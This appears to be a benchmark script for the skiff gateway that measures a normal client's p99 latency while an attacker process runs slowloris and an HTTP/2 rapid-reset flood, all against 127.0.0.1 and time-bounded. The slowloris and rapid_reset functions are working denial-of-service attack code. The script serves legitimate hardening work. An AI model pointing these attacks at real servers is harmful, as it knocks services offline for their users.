"""Gateway under attack: a normal client's p99 while slowloris and an HTTP/2 rapid-reset flood run.

Not part of the test suite. Everything targets 127.0.0.1, and the whole attack phase is bounded
(30 s by default, --seconds):

    python benchmarks/gateway/attack.py               # about a minute with the start-up

What runs:
- a real `skiff up` (temporary home, free loopback ports) serving the Knative service `hello`
  (hello-openshift), as users run it: the API server and controllers in the platform process,
  the router and the gateway in the data-plane process it supervises (python -m skiff.dataplane);
- the normal client: a fixed-rate open loop (~200 requests/s over 4 keep-alive connections,
  run.py's client) through the router's HTTP port; and an API client: GET of one ConfigMap at
  ~50/s over one keep-alive HTTPS connection with the bearer token;
- first unloaded, then while an attacker process (nice 10, so that on a small machine it takes
  CPU from the gateway less than from nobody) runs both attacks at once:
  - slowloris: 200 connections on the HTTP port, each sending a request line and then one header
    line a second, never the end; reconnecting when the gateway closes them;
  - HTTP/2 rapid reset: TLS + ALPN h2 on the HTTPS port (edge route), HEADERS + RST_STREAM pairs in
    batches of 100, as fast as it can, reconnecting after each GOAWAY.
It prints p50/p99 for both clients in both phases, the ratios, and what the attacker saw (408s,
GOAWAYs, pairs sent). Goal (from the hardening issue): the normal client's p99 under attack within
2x of unloaded. --json FILE also writes the figures.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from run import _pct, fixed_rate, free_port  # noqa: E402

DOMAIN = "apps.127.0.0.1.sslip.io"
HOST = f"hello-default.{DOMAIN}"


# --- the attacker (its own process) -------------------------------------------------------------

async def slowloris(port: int, conns: int, until: float, stats: dict[str, int]) -> None:
    async def one() -> None:
        while time.monotonic() < until:
            try:
                r, w = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            stats["loris_connections"] += 1
            try:
                w.write(f"GET / HTTP/1.1\r\nhost: {HOST}\r\n".encode())
                while time.monotonic() < until:
                    w.write(b"x-loris: 1\r\n")
                    try:
                        data = await asyncio.wait_for(r.read(4096), 1.0)
                    except TimeoutError:
                        continue
                    if data.startswith(b"HTTP/1.1 408"):
                        stats["loris_408"] += 1
                    if not data or data.startswith(b"HTTP/"):
                        break
            except OSError:
                pass
            finally:
                w.close()
    await asyncio.gather(*(one() for _ in range(conns)))


async def rapid_reset(port: int, until: float, stats: dict[str, int]) -> None:
    import h2.config
    import h2.connection
    import h2.errors
    import h2.exceptions
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    while time.monotonic() < until:
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname=HOST)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["h2_connections"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        w.write(conn.data_to_send())
        closed = asyncio.Event()

        async def reader(r: asyncio.StreamReader = r, closed: asyncio.Event = closed) -> None:
            try:
                while True:
                    data = await r.read(65536)
                    if not data:
                        break
                    if b"\x00\x00\x08\x07\x00\x00\x00\x00\x00" in data or \
                            b"\x07\x00\x00\x00\x00\x00" in data:
                        stats["h2_goaway_seen"] += 1
            except OSError:
                pass
            closed.set()
        rt = asyncio.ensure_future(reader())
        try:
            while time.monotonic() < until and not closed.is_set():
                try:
                    for _ in range(100):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, [(":method", "GET"), (":path", "/"),
                                                (":scheme", "https"), (":authority", HOST)],
                                          end_stream=True)
                        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                        stats["h2_pairs"] += 1
                except h2.exceptions.H2Error:
                    break
                w.write(conn.data_to_send())
                try:
                    await asyncio.wait_for(w.drain(), 1.0)
                except (OSError, TimeoutError):
                    break
                await asyncio.sleep(0)
        finally:
            w.close()
            rt.cancel()
            with contextlib.suppress(BaseException):
                await rt


def attacker(cfg: dict[str, Any]) -> None:
    os.nice(10)
    until = time.monotonic() + cfg["seconds"]
    stats = {k: 0 for k in ("loris_connections", "loris_408", "h2_connections", "h2_goaway_seen",
                            "h2_pairs")}

    async def main() -> None:
        await asyncio.gather(slowloris(cfg["http"], cfg["loris"], until, stats),
                             rapid_reset(cfg["https"], until, stats))
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main())
    print(json.dumps(stats), flush=True)


# --- the API client ----------------------------------------------------------------------------

async def api_rate(port: int, token: str, ca: Path, rate: float, seconds: float) -> dict[str, float]:
    """GET one ConfigMap at a fixed rate over one keep-alive HTTPS connection (one at a time:
    an interval that finds the previous request still out is counted late and skipped)."""
    import httptools
    ctx = ssl.create_default_context(cafile=str(ca))
    r, w = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname="127.0.0.1")
    req = (f"GET /api/v1/namespaces/default/configmaps/bench HTTP/1.1\r\nhost: 127.0.0.1\r\n"
           f"authorization: Bearer {token}\r\naccept: application/json\r\n\r\n").encode()
    lat: list[float] = []
    done = asyncio.Event()

    class P:
        def on_message_complete(self) -> None:
            done.set()
    late = 0
    start = time.perf_counter()
    n = int(rate * seconds)
    for i in range(n):
        due = start + i / rate
        now = time.perf_counter()
        if now < due:
            await asyncio.sleep(due - now)
        elif now - due > 1 / rate:
            late += 1
            continue
        parser = httptools.HttpResponseParser(P())
        done.clear()
        t0 = time.perf_counter()
        w.write(req)
        while not done.is_set():
            parser.feed_data(await r.read(65536))
        lat.append(time.perf_counter() - t0)
    w.close()
    lat.sort()
    return {"n": len(lat), "p50_ms": _pct(lat, 50) * 1e3, "p99_ms": _pct(lat, 99) * 1e3,
            "late": late}


# --- main --------------------------------------------------------------------------------------

def measure(ports: dict[str, int], token: str, ca: Path, seconds: float, rate: float,
            api_rate_hz: float) -> dict[str, Any]:
    async def both() -> tuple[dict[str, float], dict[str, float]]:
        a, b = await asyncio.gather(
            fixed_rate(ports["--http-port"], rate, seconds, HOST, None, conns=4),
            api_rate(ports["api"], token, ca, api_rate_hz, seconds))
        return a, b
    gw, api = asyncio.run(both())
    return {"gateway": gw, "api": api}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=float, default=30.0, help="attack phase bound")
    ap.add_argument("--measure", type=float, default=8.0, help="seconds measured per phase")
    ap.add_argument("--rate", type=float, default=200.0)
    ap.add_argument("--api-rate", type=float, default=50.0)
    ap.add_argument("--loris", type=int, default=200)
    ap.add_argument("--dataplane-workers", type=int, default=1,
                    help="skiff up --dataplane-workers (data-plane processes, SO_REUSEPORT)")
    ap.add_argument("--json", type=Path)
    ap.add_argument("--attacker", help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.attacker:
        attacker(json.loads(args.attacker))
        return 0
    tmp = Path(tempfile.mkdtemp(prefix="skiff-attack-"))
    home = tmp / "home"
    ports = {"api": free_port(), "--http-port": free_port(), "--https-port": free_port(),
             "--local-gateway-port": free_port()}
    env = dict(os.environ, SKIFF_HOME=str(home), KUBECONFIG=str(home / "kubeconfig"))
    cmd = [sys.executable, "-m", "skiff.cli.main", "up", "--home", str(home), "--api-port",
           str(ports["api"])]
    for k, v in ports.items():
        if k.startswith("--"):
            cmd += [k, str(v)]
    cmd += ["--dataplane-workers", str(args.dataplane_workers)]
    procs: list[subprocess.Popen[bytes]] = []
    up = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=(tmp / "up.log").open("wb"),
                          env=env)
    procs.append(up)
    try:
        deadline = time.monotonic() + 30
        while not (home / "kubeconfig").exists():
            if time.monotonic() > deadline or up.poll() is not None:
                raise RuntimeError("skiff up did not start: " + (tmp / "up.log").read_text())
            time.sleep(0.1)
        kc = ["kubectl", "--kubeconfig", str(home / "kubeconfig")]
        subprocess.run([*kc, "create", "configmap", "bench", "--from-literal=k=v"], check=True,
                       capture_output=True, timeout=60)
        subprocess.run([sys.executable, "-m", "skiff.cli.main", "service", "create", "hello",
                        "--image", "docker.io/openshift/hello-openshift"], check=True,
                       capture_output=True, timeout=90, env=env)
        deadline = time.monotonic() + 30
        while True:
            try:
                with socket.create_connection(("127.0.0.1", ports["--http-port"]), 2) as s:
                    s.sendall(f"GET / HTTP/1.1\r\nhost: {HOST}\r\nconnection: close\r\n\r\n"
                              .encode())
                    if s.recv(64).startswith(b"HTTP/1.1 200"):
                        break
            except OSError:
                pass
            if time.monotonic() > deadline:
                raise RuntimeError("hello never answered")
            time.sleep(0.2)
        token = (home / "token").read_text().strip()
        ca = home / "pki" / "ca.crt"
        measure(ports, token, ca, 2.0, args.rate, args.api_rate)          # warm-up
        unloaded = measure(ports, token, ca, args.measure, args.rate, args.api_rate)

        acfg = {"http": ports["--http-port"], "https": ports["--https-port"],
                "seconds": args.seconds, "loris": args.loris}
        atk = subprocess.Popen([sys.executable, __file__, "--attacker", json.dumps(acfg)],
                               stdout=subprocess.PIPE)
        procs.append(atk)
        time.sleep(3.0)                               # let both attacks get going
        attacked = measure(ports, token, ca, args.measure, args.rate, args.api_rate)
        out, _ = atk.communicate(timeout=args.seconds + 10)
        stats = json.loads(out.decode().strip().splitlines()[-1])
        report = {
            "machine": {"cpus": os.cpu_count(), "load": os.getloadavg()},
            "settings": vars(args) | {"json": str(args.json)},
            "unloaded": unloaded, "attacked": attacked, "attacker": stats,
            "ratios": {
                "gateway_p99": attacked["gateway"]["p99_ms"] / unloaded["gateway"]["p99_ms"],
                "gateway_p50": attacked["gateway"]["p50_ms"] / unloaded["gateway"]["p50_ms"],
                "api_p99": attacked["api"]["p99_ms"] / unloaded["api"]["p99_ms"],
            },
        }
        print_report(report)
        if args.json:
            args.json.write_text(json.dumps(report, indent=2))
        return 0
    finally:
        for p in reversed(procs):
            if p.poll() is None:
                p.send_signal(signal.SIGTERM)
                try:
                    p.wait(30)
                except subprocess.TimeoutExpired:
                    p.kill()
                    p.wait(5)


def print_report(r: dict[str, Any]) -> None:
    s = r["settings"]
    print(f"\n{r['machine']['cpus']} CPUs, load {r['machine']['load']}; normal client "
          f"~{s['rate']:.0f} req/s over 4 keep-alive connections, API GET ~{s['api_rate']:.0f}/s; "
          f"{s['measure']:.0f} s measured per phase")
    print(f"{'':24s}{'p50 ms':>9s}{'p99 ms':>9s}{'n':>7s}{'late':>6s}")
    for phase in ("unloaded", "attacked"):
        for who in ("gateway", "api"):
            f = r[phase][who]
            n = f.get("n", int(f.get("rate", 0) * s["measure"]))
            print(f"{phase + ' ' + who:24s}{f['p50_ms']:9.2f}{f['p99_ms']:9.2f}{n:7d}"
                  f"{f['late']:6d}")
    a = r["attacker"]
    print(f"attacker: slowloris {a['loris_connections']} connections, {a['loris_408']} got 408; "
          f"rapid reset {a['h2_pairs']} HEADERS+RST_STREAM pairs on {a['h2_connections']} "
          f"connections, {a['h2_goaway_seen']} GOAWAYs seen")
    q = r["ratios"]
    print(f"normal client p99 under attack: {q['gateway_p99']:.2f}x unloaded (goal <= 2x: "
          f"{'meets' if q['gateway_p99'] <= 2 else 'MISSES'}); p50 {q['gateway_p50']:.2f}x; "
          f"API GET p99 {q['api_p99']:.2f}x")


if __name__ == "__main__":
    sys.exit(main())
